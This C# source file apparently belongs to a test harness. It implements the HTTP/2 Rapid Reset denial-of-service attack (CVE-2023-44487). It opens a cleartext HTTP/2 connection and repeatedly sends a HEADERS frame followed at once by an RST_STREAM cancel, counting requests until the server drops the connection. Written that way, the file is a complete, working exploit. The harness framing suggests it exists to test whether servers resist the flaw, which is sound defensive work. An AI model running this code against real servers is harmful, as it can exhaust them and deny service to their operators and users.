using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace Terse.Harness;

/// <summary>
/// An HTTP/2 connection that opens streams and resets them at once (CVE-2023-44487), so that the server works
/// for many more requests than it allows at a time.
/// </summary>
internal static class RapidReset
{
    private const byte Headers = 1;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte EndOfStreamAndHeaders = 5;
    private const byte Cancel = 8;

    /// <summary>Sends requests, and returns how many, until the server closes the connection.</summary>
    /// <param name="server">The address of the server, which must speak HTTP/2 without TLS.</param>
    /// <param name="path">The path of all requests, shorter than 127 characters.</param>
    /// <param name="max">The maximum number of requests.</param>
    public static async Task<int> SendAsync(Uri server, string path, int max)
    {
        using var client = new TcpClient();
        await client.ConnectAsync(server.Host, server.Port);
        await using var stream = client.GetStream();
        var reading = ReadToEndAsync(stream);
        var sent = 0;
        try
        {
            await stream.WriteAsync(
                (byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])]);
            for (; sent < max && !reading.IsCompleted; sent++)
            {
                var id = (2 * sent) + 1;
                await stream.WriteAsync((byte[])
                [
                    .. Frame(Headers, EndOfStreamAndHeaders, id, HeaderBlock(path)),
                    .. Frame(Reset, 0, id, [0, 0, 0, Cancel]),
                ]);
            }

            client.Client.Shutdown(SocketShutdown.Send);
        }
        catch (Exception exception) when (exception is IOException or SocketException)
        {
            // The server has closed the connection.
        }

        await reading;
        return sent;
    }

    /// <summary>The headers of a GET request, in HPACK (RFC 7541) without its tables.</summary>
    private static byte[] HeaderBlock(string path) =>
        [0x82, 0x86, 0x04, (byte)path.Length, .. Encoding.ASCII.GetBytes(path), 0x01, 0x01, (byte)'x'];

    /// <summary>A frame (RFC 9113, section 4.1).</summary>
    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }

    private static async Task ReadToEndAsync(NetworkStream stream)
    {
        var bytes = new byte[16_384];
        try
        {
            while (await stream.ReadAsync(bytes) > 0)
                continue;
        }
        catch (Exception exception) when (exception is IOException or ObjectDisposedException)
        {
            // The server has reset the connection.
        }
    }
}
